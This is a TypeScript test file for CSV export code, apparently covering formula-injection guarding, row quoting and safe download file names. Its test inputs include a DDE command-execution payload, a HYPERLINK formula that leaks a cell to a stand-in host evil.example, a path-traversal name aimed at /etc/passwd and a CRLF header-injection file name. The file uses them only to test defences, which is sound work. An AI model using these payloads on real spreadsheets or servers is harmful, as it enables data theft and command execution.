import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRow, guarded, guardedCsvRow } from '../../../src/platform/files/csv.ts'
import { safeFileName } from '../../../src/platform/http/download.ts'
import { parseCsv } from '../../support/parse-csv.ts'

const formula = /^[\s\uFEFF]*[=+\-@＝＋－＠]|^[\t\r\n]/

describe('a cell for people', () => {
  it.each([
    "=cmd|' /C calc'!A0",
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1:A9)',
    '\t=1',
    '\t',
    '\r=1',
    '\n=1',
    '  =1',
    '\uFEFF=1',
    '\u3000=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
  ])('that could be a formula begins with a quote: %j', (text) => {
    expect(guarded(text)).toMatch(/^'/)
    expect(guarded(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''))
  })

  it.each(['a;=1', 'a\t+1', 'a\r\n@x', 'a; －1'])(
    'is safe where another locale begins a cell inside it: %j',
    (text) => {
      for (const part of guarded(text).split(/[;\t\r\n]/)) expect(part).not.toMatch(formula)
    },
  )

  it.each(['', 'text', '2026-11-23', 'a=b', '1-2', 'a, b', '你好', 'CNY 20.00', "it's"])(
    'stays as it is: %j',
    (text) => {
      expect(guarded(text)).toBe(text)
    },
  )

  it('is never a formula, whatever was typed', () => {
    const hostile = fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠;,"\t\r\n \uFEFFa1'), maxLength: 12 })
    fc.assert(
      fc.property(hostile, (text) => {
        for (const part of guarded(text).split(/[;\t\r\n]/)) expect(part).not.toMatch(formula)
      }),
    )
  })

  it('is guarded as a text and not as a number', () => {
    expect(guardedCsvRow([-1, '-1', 97, null])).toBe("-1,'-1,97,\r\n")
  })
})

describe('a row', () => {
  it('quotes what it must, doubles quotes and ends with CRLF', () => {
    expect(csvRow(['plain', 'a,b', 'say "hi"', 'two\nlines', ' padded ', 7, null])).toBe(
      'plain,"a,b","say ""hi""","two\nlines"," padded ",7,\r\n',
    )
  })

  it('is raw for machines', () => {
    expect(csvRow(['=1+1', -1, '-1'])).toBe('=1+1,-1,-1\r\n')
  })

  it('gives back what went in, whatever it was', () => {
    const cell = fc.string({ unit: fc.constantFrom(...'=",\r\n\t ;a界'), maxLength: 8 })
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
        expect(parseCsv(rows.map(csvRow).join(''))).toEqual(rows)
      }),
    )
  })
})

describe('a file name', () => {
  it.each([
    ['responses-study-abroad-1a2b.csv', 'responses-study-abroad-1a2b.csv'],
    ['../../etc/passwd', 'etc-passwd'],
    ['a"; filename=b.exe\r\nX: y', 'a-filename-b.exe-X-y'],
    ['留学.csv', 'csv'],
    ['=cmd.csv', 'cmd.csv'],
  ])('of %j is %j', (name, safe) => {
    expect(safeFileName(name)).toBe(safe)
  })
})
